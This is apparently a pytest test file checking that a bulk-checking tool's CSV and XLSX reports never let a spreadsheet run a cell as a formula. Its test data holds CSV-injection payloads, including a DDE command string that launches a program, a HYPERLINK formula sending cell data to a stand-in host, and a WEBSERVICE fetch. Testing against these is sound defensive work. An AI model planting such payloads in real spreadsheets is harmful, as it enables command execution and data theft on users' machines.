"""No cell of a report is run by a spreadsheet, whatever stands in the table; what is harmless is written as it is."""

import csv
import io
import json
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from lxml import etree
from openpyxl import load_workbook

from gcmsgen.bulk.report import harmless
from tests.conftest import Result

Run = Callable[..., Result]
pytestmark = pytest.mark.line("S10")

SIGNS = {
    "equals": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(A1)",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "line": "\n=1+1",
    "full-width equals": "＝1+1",
    "full-width plus": "＋1+1",
    "full-width minus": "－1+1",
    "full-width at": "＠SUM(A1)",
    "small plus": "﹢1+1",
    "sign of minus": "−1+1",
    "space": " =1+1",
    "no-break space": "\N{NO-BREAK SPACE}=1+1",
    "wide space": "\u3000=1+1",
    "zero width": "\u200b=1+1",
    "mark of order": "\ufeff=1+1",
    "override": "\u202e=1+1",
    "empty braille": "\u2800=1+1",
    "quote": '"=1+1',
    "quotes and spaces": "\" ' =1+1",
    "apostrophe": "'=1+1",
    "guillemet": "«=1+1",
    "link": '=HYPERLINK("http://example.org/?"&A1,"more")',
    "DDE": "=cmd|' /C calc'!A0",
    "DDE behind plus": "+cmd|' /C calc'!A0",
    "fetch": '=WEBSERVICE("http://example.org")',
}
ACTIVE = set("=+-@＝＋－＠﹢−")


def _runs(cell: str) -> bool:
    """Say whether a spreadsheet may take a cell for a formula: an apostrophe in front, alone, says that it is text."""
    if cell.startswith("'"):
        return False
    bare = cell.strip().lstrip("'\"«» \u200b\ufeff\u202e\u2800\u3000\N{NO-BREAK SPACE}\t\r\n")
    return bare[:1] in ACTIVE or (cell[:1] in "\t\r\n" and bool(cell))


def _table(folder: Path, sign: str) -> Path:
    """Return a table in which a sign stands wherever a report may repeat it."""
    path = folder / "cases.jsonl"
    row = {"application.number": sign, sign: "1", "record.noc": sign, f"record.{sign}": "1", "decision.outcome": sign}
    path.write_text(json.dumps(row) + "\n", encoding="utf-8")
    return path


def _csv_table(folder: Path, sign: str) -> Path:
    """Return a table whose own heading begins so, which a mapping says is a field: a report names it where a cell is wrong."""
    path = folder / "cases.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([["application.number", sign], ["W1", "1"]])
    (folder / "mapping.yaml").write_text(json.dumps({sign: "record.noc"}), encoding="utf-8")
    return path


@pytest.mark.parametrize("language", [pytest.param("en", marks=pytest.mark.long), "fr"])
@pytest.mark.parametrize("made", [_table, _csv_table], ids=["json lines", "csv"])
@pytest.mark.parametrize("name", SIGNS)
def test_no_cell_of_a_report_is_run(
    run: Run, tmp_path: Path, name: str, made: Callable[[Path, str], Path], language: str
) -> None:
    source = made(tmp_path, SIGNS[name])
    mapped = ["--mapping", tmp_path / "mapping.yaml"] if source.suffix == ".csv" else []
    for form in ("csv", "xlsx"):
        assert run(f"bulk check --lang {language}", source, *mapped, "--report", tmp_path / f"r.{form}").code == 1
    text = (tmp_path / "r.csv").read_text(encoding="utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";" if language == "fr" else ",") for cell in row]
    assert [cell for cell in cells if _runs(cell)] == []
    assert len(cells) > 10
    assert _types_of(tmp_path / "r.xlsx") <= {("s", False), ("inlineStr", False)}
    assert any("1+1" in cell or "A1" in cell or "A0" in cell or "example" in cell for cell in cells)


def _types_of(path: Path) -> set[tuple[str | None, bool]]:
    """Return of the cells of a workbook their types and whether they hold a formula; nothing else in it may reach out."""
    with zipfile.ZipFile(path) as archive:
        names = archive.namelist()
        assert not [name for name in names if "externalLink" in name or "hyperlink" in name or "connections" in name]
        sheet = etree.fromstring(archive.read("xl/worksheets/sheet1.xml"))
        relations = b"".join(archive.read(name) for name in names if name.endswith(".rels"))
    assert b'TargetMode="External"' not in relations
    assert not sheet.findall(".//{*}hyperlink")
    return {(cell.get("t"), cell.find("{*}f") is not None) for cell in sheet.iter("{*}c")}


def test_a_cell_of_a_workbook_is_text_also_where_it_is_edited(run: Run, tmp_path: Path) -> None:
    assert run("bulk check", _table(tmp_path, "=1+1"), "--report", tmp_path / "r.xlsx").code == 1
    sheet = load_workbook(tmp_path / "r.xlsx").active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {(cell.data_type, cell.number_format) for cell in cells} == {("s", "@")}
    assert "=1+1" in [cell.value for cell in cells]


HARMLESS = [
    "record.noc",
    "2-20",
    "W000000001",
    "a=b",
    "l’été",
    "'quoted'",
    "“Calgary” is not in ON",
    "«\N{NO-BREAK SPACE}Calgary\N{NO-BREAK SPACE}» est en AB",
    "ᐃᓄᒃᑎᑐᑦ",
    "",
    "100 %",
]


@pytest.mark.parametrize("cell", HARMLESS)
def test_what_is_harmless_is_written_as_it_is(cell: str) -> None:
    assert harmless(cell) == cell


@pytest.mark.parametrize("sign", ["=1", "a\u202eb", "\x07bell", "＝1", "é ᐃᓄ"])
def test_a_report_for_programs_is_read_back_exactly(run: Run, tmp_path: Path, sign: str) -> None:
    path = tmp_path / "cases.jsonl"
    path.write_text(json.dumps({"application.number": sign, "record.noc": "1"}) + "\n", encoding="utf-8")
    assert run("bulk check", path, "--report", tmp_path / "r.json").code == 1
    read = json.loads((tmp_path / "r.json").read_text(encoding="utf-8"))
    assert read["rows"][0]["application"] == sign


def test_the_workbook_to_fill_in_runs_nothing(run: Run, tmp_path: Path) -> None:
    assert run("bulk template", tmp_path / "t.xlsx").code == 0
    assert {kind for kind, _ in _types_of(tmp_path / "t.xlsx")} <= {"s", "n", "d", "inlineStr", None}
    assert not [formula for _, formula in _types_of(tmp_path / "t.xlsx") if formula]
